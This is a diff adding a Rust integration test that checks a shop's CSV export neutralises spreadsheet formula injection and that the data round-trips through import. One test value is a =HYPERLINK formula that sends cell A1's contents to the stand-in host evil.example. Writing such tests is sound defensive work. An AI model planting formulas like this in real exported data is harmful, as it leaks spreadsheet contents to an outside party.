@@ -861,3 +861,48 @@ fn a_json_body_naming_a_field_twice_is_refused_and_changes_nothing() {
     }
     assert_eq!(server.get("/CUSTOMER/LIST/").body, before);
 }
+
+#[test]
+fn a_csv_export_never_hands_a_spreadsheet_a_formula_and_imports_back_as_it_was() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("shop.db");
+    let server = Server::start(&db, &[]);
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1;"click")"#;
+    let added = add(
+        &server,
+        json!({"email": "f@shop.be", "firstName": formula, "phone": "+32 475 00 00 00",
+               "lastName": "@SUM(1)", "city": "-2+3"}),
+    );
+    assert_eq!(added.status, 201, "{}", added.body);
+    let id = added.customers()[0]["clcleunik"].as_i64().unwrap();
+    drop(server);
+
+    let csv = dir.path().join("out.csv");
+    let out = cli(
+        &db,
+        &["export", "--format", "csv", "-o", csv.to_str().unwrap()],
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    let text = std::fs::read_to_string(&csv).unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a cell a spreadsheet would run: {cell}"
+            );
+        }
+    }
+
+    let copy = dir.path().join("copy.db");
+    let imported = cli(&copy, &["import", csv.to_str().unwrap()]);
+    assert!(imported.status.success(), "{}", stderr(&imported));
+    let again = Server::start(&copy, &[]);
+    let customer = &again
+        .get(&format!("/CUSTOMER/LIST/?id_client={id}"))
+        .customers()[0];
+    assert_eq!(customer["firstName"], formula);
+    assert_eq!(customer["phone"], "+32 475 00 00 00");
+    assert_eq!(customer["lastName"], "@SUM(1)");
+    assert_eq!(customer["city"], "-2+3");
+}
